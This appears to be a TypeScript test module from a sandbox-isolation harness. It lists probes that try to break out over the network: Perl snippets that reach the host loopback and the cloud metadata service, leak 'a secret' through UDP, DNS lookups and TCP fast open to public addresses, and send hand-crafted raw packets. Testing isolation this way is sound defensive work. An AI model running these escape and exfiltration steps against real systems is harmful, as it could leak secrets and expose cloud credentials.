import { network } from "../../../harness/attacks/attack.ts";
import { anybody, connected } from "./reached.ts";
import { dial, perl, send } from "./scripts.ts";

const RAW_SOCKET = "only root opens raw sockets on the host, as the control does";

/** An IPv4 packet with a datagram for port 4041 of somebody else. */
const DATAGRAM = `$datagram = pack("n4", 4041, 4041, 12, 0) . "raw!"; $to = inet_aton("10.0.0.1"); $from = inet_aton("10.0.0.2");
$packet = pack("CCnnnCCna4a4", 0x45, 0, 20 + length $datagram, 1, 0, 64, 17, 0, $from, $to) . $datagram;
$sum = 0; $sum += $_ for unpack("n10", $packet); $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16; substr($packet, 10, 2) = pack("n", ~$sum & 0xffff);`;
const REFUSED = `print "refused: $!\\n"`;

/** Straight to an address, past the proxy. */
export const networkDirect = network("network-direct", { reached: connected, isDirect: true }, [
  ["host-loopback", "connects to the host's loopback", dial("127.0.0.1", 8080)],
  ["gateway", "connects to the gateway that QEMU would have", dial("10.0.2.2", 80)],
  ["metadata", "connects to the metadata service", dial("169.254.169.254", 80), { essential: true }],
  ["public", "connects to a public address", dial("93.184.215.14", 443)],
  ["private", "connects to a private network", dial("192.168.1.1", 80)],
  ["loopback6", "connects to the loopback by IPv6", dial("::1", 8080)],
  ["mapped", "connects to the loopback in a mapped address", dial("::ffff:127.0.0.1", 8080)],
  ["public6", "connects to a public address by IPv6", dial("2606:4700::1111", 443)],
  ["udp", "sends a datagram", send("127.0.0.1", 4041, "a secret"), { reached: anybody }],
  [
    "dns",
    "puts a secret into a question for a name",
    perl(`print gethostbyname("a-secret.allowed.example") ? "known\\n" : "unknown\\n";`),
    { essential: true, reached: anybody },
  ],
  [
    "dns-raw",
    "asks a server of its own choice for a name",
    send("8.8.8.8", 53, "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x08a-secret\x05other\x07example\0\0\x01\0\x01"),
    { reached: anybody },
  ],
  [
    "echo",
    "sends an echo request",
    perl(
      `socket(S, AF_INET, SOCK_RAW, 1) or do { ${REFUSED}; exit }; send(S, pack("CCnnn", 8, 0, 0xf7fe, 1, 0), 0, pack_sockaddr_in(0, inet_aton("10.0.0.1"))) or ${REFUSED};`,
    ),
    { reached: anybody, needsRoot: RAW_SOCKET },
  ],
  [
    "raw",
    "makes a datagram of its own with all its headers",
    perl(
      `${DATAGRAM} socket(S, AF_INET, SOCK_RAW, 255) or do { ${REFUSED}; exit }; send(S, $packet, 0, pack_sockaddr_in(0, $to)) or ${REFUSED};`,
    ),
    { essential: true, reached: anybody, needsRoot: RAW_SOCKET },
  ],
  [
    "packet",
    "puts a packet onto an interface",
    perl(
      `${DATAGRAM} socket(S, 17, SOCK_DGRAM, 0x0008) or do { ${REFUSED}; exit }; send(S, $packet, 0, pack("SnlSCCa8", 17, 0x0800, 1, 0, 0, 6, "")) or ${REFUSED};`,
    ),
    { reached: anybody, needsRoot: RAW_SOCKET },
  ],
  [
    "fast-open",
    "sends data along with the wish to connect",
    perl(
      `socket(S, AF_INET, SOCK_STREAM, 0) or die "$!"; send(S, "a secret", 0x20000000, pack_sockaddr_in(8080, inet_aton("93.184.215.14"))) or ${REFUSED};`,
    ),
  ],
  [
    "multipath",
    "connects by several paths at once",
    perl(
      `socket(S, AF_INET, SOCK_STREAM, 262) or do { ${REFUSED}; exit }; connect(S, pack_sockaddr_in(8080, inet_aton("93.184.215.14"))) or ${REFUSED};`,
    ),
  ],
]);
